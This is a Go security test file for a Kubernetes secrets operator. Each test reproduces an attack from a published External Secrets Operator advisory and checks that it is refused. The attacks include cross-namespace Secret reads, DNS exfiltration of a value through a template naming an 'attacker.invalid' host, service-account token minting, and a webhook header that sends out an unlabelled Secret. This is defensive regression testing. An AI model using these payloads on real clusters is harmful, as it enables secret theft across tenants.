package security

// One test per security advisory published for External Secrets Operator, reproducing its
// attack against Ferry. docs/security.md lists them ("ESO's advisories") with what each
// allowed and why Ferry is not affected. Each test names, in its comment, a protection
// whose removal makes it fail.

import (
	"context"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	esv1 "github.com/ferryhq/ferry/api/externalsecrets/v1"
	esv1alpha1 "github.com/ferryhq/ferry/api/externalsecrets/v1alpha1"
	genv1alpha1 "github.com/ferryhq/ferry/api/generators/v1alpha1"
	"github.com/ferryhq/ferry/internal/provider/webhook"
	"github.com/ferryhq/ferry/internal/template"
	"github.com/ferryhq/ferry/internal/testenv"
)

// TestAdvisoryPushSecretListsOwnNamespace (GHSA-fcxq-v2r3-cc8h, CVE-2025-55196): ESO's
// PushSecret listed source Secrets (selector.secret.selector) and stores
// (secretStoreRefs[].labelSelector) in every namespace, so a tenant could push another
// namespace's Secrets, or push into another namespace's store, by choosing labels. Here a
// victim namespace holds a Secret and a store with the very labels the tenant selects:
// neither is used. Removing client.InNamespace(ps.Namespace) from the List in
// internal/controller/pushsecret/source.go makes this test fail (the victim's Secret sorts
// last and its value is pushed).
func TestAdvisoryPushSecretListsOwnNamespace(t *testing.T) {
	tenant, victim := testenv.Namespace(t, k8s, nil), testenv.Namespace(t, k8s, nil)
	shared := map[string]string{"app": "shared-" + tenant}
	target := map[string]string{"push": "target-" + tenant}
	create(t, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: tenant, Name: "a-mine", Labels: shared},
		StringData: map[string]string{"token": "tenant-token"}})
	create(t, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: victim, Name: "z-victim", Labels: shared},
		StringData: map[string]string{"token": "victim-token-value"}})
	for ns, name := range map[string]string{tenant: "tenant-store", victim: "victim-store"} {
		store := &esv1.SecretStore{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, Labels: target},
			Spec: esv1.SecretStoreSpec{Provider: &esv1.SecretStoreProvider{Fake: &esv1.FakeProvider{
				Data: []esv1.FakeProviderData{{Key: "unrelated", Value: "x"}}}}}}
		create(t, store)
		waitStore(t, store, metav1.ConditionTrue)
	}
	create(t, &esv1alpha1.PushSecret{ObjectMeta: metav1.ObjectMeta{Namespace: tenant, Name: "by-labels"}, Spec: esv1alpha1.PushSecretSpec{
		SecretStoreRefs: []esv1alpha1.PushSecretStoreRef{{Kind: esv1.SecretStoreKind, LabelSelector: &metav1.LabelSelector{MatchLabels: target}}},
		Selector:        esv1alpha1.PushSecretSelector{Secret: &esv1alpha1.PushSecretSecret{Selector: &metav1.LabelSelector{MatchLabels: shared}}},
		Data:            []esv1alpha1.PushSecretData{{Match: esv1alpha1.PushSecretMatch{SecretKey: "token", RemoteRef: esv1alpha1.PushSecretRemoteRef{RemoteKey: "pushed"}}}},
	}})
	ps := waitPushReady(t, tenant, "by-labels")
	if stores := keysOf(ps.Status.SyncedPushSecrets); !slices.Equal(stores, []string{"SecretStore/tenant-store"}) {
		t.Errorf("pushed to %v, want only the tenant's own store", stores)
	}
	// Read back what the tenant's store holds, as a user would.
	create(t, externalSecret(tenant, "read-back", esv1.SecretStoreRef{Name: "tenant-store"}, "pushed"))
	if got := string(waitSecret(t, tenant, "read-back").Data["value"]); got != "tenant-token" {
		t.Errorf("the tenant's store holds %q, want the tenant's own Secret's value", got)
	}
	// And the victim's store holds nothing of it.
	create(t, externalSecret(victim, "probe", esv1.SecretStoreRef{Name: "victim-store"}, "pushed"))
	msg := waitFailed(t, victim, "probe")
	if !strings.Contains(msg, "not found") {
		t.Errorf("the victim's store answered %q for the pushed key, want not found", msg)
	}
}

// TestAdvisoryNoGetSecretKey (GHSA-77v3-r3jw-j2v2, CVE-2026-22822): ESO's getSecretKey
// template function read any Secret of any namespace with the controller's identity. Ferry's
// engines have no function that reads the cluster; a template that calls it is refused as
// written and nothing is read or written. Adding a getSecretKey (or any cluster-reading
// function) to internal/template's function map makes this test fail.
func TestAdvisoryNoGetSecretKey(t *testing.T) {
	tenant, victim := testenv.Namespace(t, k8s, nil), testenv.Namespace(t, k8s, nil)
	create(t, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: victim, Name: "db"}, StringData: map[string]string{"password": "victim-db-password"}})
	fakeStore(t, tenant, "store", nil, "k", "v")
	es := externalSecret(tenant, "steal", esv1.SecretStoreRef{Name: "store"}, "k")
	es.Spec.Target.Template = &esv1.ExternalSecretTemplate{
		Data: map[string]string{"stolen": `{{ getSecretKey "db" "` + victim + `" "password" }}`}}
	create(t, es)
	msg := waitFailed(t, tenant, "steal")
	if !strings.HasPrefix(msg, esv1.ReasonInvalidSpec+": ") || !strings.Contains(msg, `function "getSecretKey" not defined`) {
		t.Errorf("condition = %q, want InvalidSpec: function getSecretKey not defined", msg)
	}
	assertNoSecret(t, tenant, "steal")
	// Both engines (v1 serves the v1alpha1 API) refuse it.
	for _, engine := range []template.Engine{template.EngineV1, template.EngineV2} {
		if err := template.Check(engine, "t", `{{ getSecretKey "db" "ns" "k" }}`); err == nil {
			t.Errorf("engine %s accepts getSecretKey", engine)
		}
	}
}

// TestAdvisoryNoDNSFromTemplates (GHSA-r2pg-r6h7-crf3, CVE-2026-34984): ESO's v2 engine kept
// sprig's getHostByName, so a template could leak a value through a DNS query for
// "<value>.attacker.example". Ferry removes it from both engines; the ExternalSecret is
// refused before any lookup. Taking "getHostByName" out of removedSprigFuncs in
// internal/template/funcs.go makes this test fail.
func TestAdvisoryNoDNSFromTemplates(t *testing.T) {
	ns := testenv.Namespace(t, k8s, nil)
	fakeStore(t, ns, "store", nil, "k", "exfiltrated-by-dns")
	es := externalSecret(ns, "dns", esv1.SecretStoreRef{Name: "store"}, "k")
	es.Spec.Target.Template = &esv1.ExternalSecretTemplate{
		Data: map[string]string{"ip": `{{ printf "%s.attacker.invalid" .value | getHostByName }}`}}
	create(t, es)
	msg := waitFailed(t, ns, "dns")
	if !strings.HasPrefix(msg, esv1.ReasonInvalidSpec+": ") || !strings.Contains(msg, `function "getHostByName" not defined`) {
		t.Errorf("condition = %q, want InvalidSpec: function getHostByName not defined", msg)
	}
	assertNoSecret(t, ns, "dns")
}

// TestAdvisoryCAProviderStaysInNamespace (GHSA-wv26-88m5-6h59, CVE-2026-42875): a namespaced
// SecretStore's caProvider of type ConfigMap could name another namespace; ESO read it,
// letting a tenant trust another team's CA and learn whether a ConfigMap exists there.
// Ferry refuses the store before any read, with the same message whether or not the
// ConfigMap exists, and its endpoint is never called. Removing the namespace check of
// provider.ValidateRefNamespace makes this test fail (the store is no longer refused as
// InvalidProviderConfig).
func TestAdvisoryCAProviderStaysInNamespace(t *testing.T) {
	tenant, victim := testenv.Namespace(t, k8s, nil), testenv.Namespace(t, k8s, nil)
	create(t, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: victim, Name: "victim-ca"}, Data: map[string]string{"ca.crt": "not read"}})
	endpoint := newRecordingServer(t, true)
	messages := map[string]string{}
	for name, configMap := range map[string]string{"existing": "victim-ca", "missing": "no-such-ca"} {
		other := victim
		store := &esv1.SecretStore{ObjectMeta: metav1.ObjectMeta{Namespace: tenant, Name: name}, Spec: esv1.SecretStoreSpec{
			Provider: &esv1.SecretStoreProvider{Webhook: &esv1.WebhookProvider{URL: endpoint.URL + "/{{ .remoteRef.key }}",
				CAProvider: &esv1.CAProvider{Type: esv1.CAProviderTypeConfigMap, Name: configMap, Key: "ca.crt", Namespace: &other}}}}}
		create(t, store)
		msg := waitStore(t, store, metav1.ConditionFalse)
		want := "spec.provider.webhook.caProvider.namespace: a SecretStore may only reference its own namespace"
		if !strings.HasPrefix(msg, esv1.ReasonInvalidProviderConfig+": ") || !strings.Contains(msg, want) {
			t.Errorf("%s: store condition = %q, want InvalidProviderConfig: %s", name, msg, want)
		}
		messages[name] = strings.ReplaceAll(msg, configMap, "<name>")
		create(t, externalSecret(tenant, "via-"+name, esv1.SecretStoreRef{Name: name}, "k"))
		if msg := waitFailed(t, tenant, "via-"+name); !strings.HasPrefix(msg, esv1.ReasonStoreNotReady+": ") {
			t.Errorf("via-%s: condition = %q, want StoreNotReady", name, msg)
		}
	}
	if messages["existing"] != messages["missing"] {
		t.Errorf("the condition tells whether the other namespace's ConfigMap exists:\n%s\n%s", messages["existing"], messages["missing"])
	}
	if n := endpoint.count(); n != 0 {
		t.Errorf("the endpoint was called %d times", n)
	}
}

// TestAdvisoryNoServiceAccountTokenSecrets (GHSA-fq7h-9x26-6j22, CVE-2026-42876): ESO wrote a
// target Secret of type kubernetes.io/service-account-token when a template asked, and the
// token controller then filled it with a long-lived token of any ServiceAccount of the
// namespace: whoever may create an ExternalSecret could act as any ServiceAccount. Ferry
// refuses that type (and bootstrap tokens) whatever the creationPolicy, and writes nothing.
// Removing the type check in internal/validation/externalsecret.go makes this test fail.
func TestAdvisoryNoServiceAccountTokenSecrets(t *testing.T) {
	ns := testenv.Namespace(t, k8s, nil)
	fakeStore(t, ns, "store", nil, "k", "v")
	for name, secretType := range map[string]corev1.SecretType{
		"sa-token": corev1.SecretTypeServiceAccountToken, "bootstrap-token": corev1.SecretTypeBootstrapToken,
	} {
		for _, policy := range []esv1.ExternalSecretCreationPolicy{esv1.CreatePolicyOwner, esv1.CreatePolicyOrphan} {
			esName := name + "-" + strings.ToLower(string(policy))
			es := externalSecret(ns, esName, esv1.SecretStoreRef{Name: "store"}, "k")
			es.Spec.Target.CreationPolicy = policy
			es.Spec.Target.Template = &esv1.ExternalSecretTemplate{Type: secretType,
				Metadata: esv1.ExternalSecretTemplateMetadata{Annotations: map[string]string{corev1.ServiceAccountNameKey: "default"}}}
			create(t, es)
			msg := waitFailed(t, ns, esName)
			if !strings.HasPrefix(msg, esv1.ReasonInvalidSpec+": ") || !strings.Contains(msg, string(secretType)+" Secrets cannot be managed by Ferry") {
				t.Errorf("%s: condition = %q, want InvalidSpec refusing the type", esName, msg)
			}
			assertNoSecret(t, ns, esName)
		}
	}
	var secrets corev1.SecretList
	if err := k8s.List(context.Background(), &secrets, client.InNamespace(ns)); err != nil {
		t.Fatal(err)
	}
	for _, s := range secrets.Items {
		if s.Type == corev1.SecretTypeServiceAccountToken || s.Type == corev1.SecretTypeBootstrapToken {
			t.Errorf("Secret %s of type %s exists", s.Name, s.Type)
		}
	}
}

// TestAdvisoryWebhookSendsOnlyLabelledSecrets (GHSA-q7hv-xx6h-q2x8, CVE-2026-26287): ESO
// requires every Secret a webhook store or generator sends to carry the label
// external-secrets.io/type=webhook, so that whoever may write a store cannot send any Secret
// of the namespace to a server of their choosing; a bug skipped that check for generators.
// Ferry checks it for webhook stores and for the Webhook generator, which runs on the store's
// code. Here the tenant names the namespace's database Secret, through a store and through a
// generator: the endpoint never receives it. Replacing provider.LabelledSecretData by
// provider.SecretData in internal/provider/webhook makes this test fail.
func TestAdvisoryWebhookSendsOnlyLabelledSecrets(t *testing.T) {
	ns := testenv.Namespace(t, k8s, nil)
	const value = "db-admin-password-unlabelled"
	create(t, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "db-admin"}, StringData: map[string]string{"password": value}})
	create(t, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "lent", Labels: map[string]string{webhook.SecretLabel: webhook.SecretLabelValue}},
		StringData: map[string]string{"token": "lent-token"}})
	endpoint := newRecordingServer(t, false)
	for name, secret := range map[string]string{"exfiltrate": "db-admin", "control": "lent"} {
		store := &esv1.SecretStore{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name}, Spec: esv1.SecretStoreSpec{
			Provider: &esv1.SecretStoreProvider{Webhook: &esv1.WebhookProvider{
				URL:     endpoint.URL + "/{{ .remoteRef.key }}",
				Headers: map[string]string{"X-Stolen": "{{ range .s }}{{ . }}{{ end }}"},
				Secrets: []esv1.WebhookSecret{{Name: "s", SecretRef: esv1.SecretKeySelector{Name: secret}}},
			}}}}
		create(t, store)
		create(t, externalSecret(ns, name, esv1.SecretStoreRef{Name: name}, "k"))
	}
	create(t, &genv1alpha1.Webhook{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "exfiltrate-gen"}, Spec: genv1alpha1.WebhookSpec{
		URL:     endpoint.URL + "/generate",
		Headers: map[string]string{"X-Stolen": "{{ range .s }}{{ . }}{{ end }}"},
		Secrets: []genv1alpha1.WebhookSecret{{Name: "s", SecretRef: genv1alpha1.LocalSecretKeySelector{Name: "db-admin", Key: "password"}}},
	}})
	create(t, &esv1.ExternalSecret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "exfiltrate-gen"}, Spec: esv1.ExternalSecretSpec{
		RefreshInterval: esv1.NewDuration(time.Hour),
		DataFrom: []esv1.ExternalSecretDataFromRemoteRef{{SourceRef: &esv1.StoreGeneratorSourceRef{
			GeneratorRef: &esv1.GeneratorRef{APIVersion: genv1alpha1.SchemeGroupVersion.String(), Kind: genv1alpha1.WebhookKind, Name: "exfiltrate-gen"}}}},
	}})
	// The positive control: a labelled Secret is sent, so the endpoint does record headers.
	waitSecret(t, ns, "control")
	if !endpoint.received("lent-token") {
		t.Fatal("the control request did not carry the labelled Secret: the check proves nothing")
	}
	msg := waitFailed(t, ns, "exfiltrate")
	if !strings.Contains(msg, "does not carry the label external-secrets.io/type=webhook") {
		t.Errorf("condition = %q, want the missing label named", msg)
	}
	msg = waitFailed(t, ns, "exfiltrate-gen")
	if !strings.Contains(msg, "does not carry the label external-secrets.io/type=webhook") {
		t.Errorf("generator's condition = %q, want the missing label named", msg)
	}
	if endpoint.received(value) {
		t.Error("the endpoint received the unlabelled Secret's value")
	}
	assertNoSecret(t, ns, "exfiltrate")
	assertNoSecret(t, ns, "exfiltrate-gen")
}

// waitPushReady waits until the PushSecret is Ready=True and returns it.
func waitPushReady(t *testing.T, ns, name string) *esv1alpha1.PushSecret {
	t.Helper()
	var ps esv1alpha1.PushSecret
	testenv.Eventually(t, 20*time.Second, "PushSecret "+name+" Ready", func() (bool, error) {
		if err := k8s.Get(context.Background(), client.ObjectKey{Namespace: ns, Name: name}, &ps); err != nil {
			return false, err
		}
		for _, c := range ps.Status.Conditions {
			if c.Type == "Ready" {
				return c.Status == metav1.ConditionTrue, nil
			}
		}
		return false, nil
	})
	return &ps
}

func keysOf[V any](m map[string]V) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	slices.Sort(out)
	return out
}

// recordingServer is a loopback HTTP endpoint that answers "ok" to everything and records
// every request it receives (URL and headers).
type recordingServer struct {
	*httptest.Server
	mu       sync.Mutex
	requests []string
}

func newRecordingServer(t *testing.T, withTLS bool) *recordingServer {
	t.Helper()
	s := &recordingServer{}
	handler := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var b strings.Builder
		b.WriteString(r.URL.String())
		for k, v := range r.Header {
			b.WriteString(" " + k + "=" + strings.Join(v, ","))
		}
		s.mu.Lock()
		s.requests = append(s.requests, b.String())
		s.mu.Unlock()
		_, _ = w.Write([]byte("ok"))
	})
	if withTLS {
		s.Server = httptest.NewTLSServer(handler)
	} else {
		s.Server = httptest.NewServer(handler)
	}
	t.Cleanup(s.Close)
	return s
}

func (s *recordingServer) count() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.requests)
}

func (s *recordingServer) received(text string) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, r := range s.requests {
		if strings.Contains(r, text) {
			return true
		}
	}
	return false
}
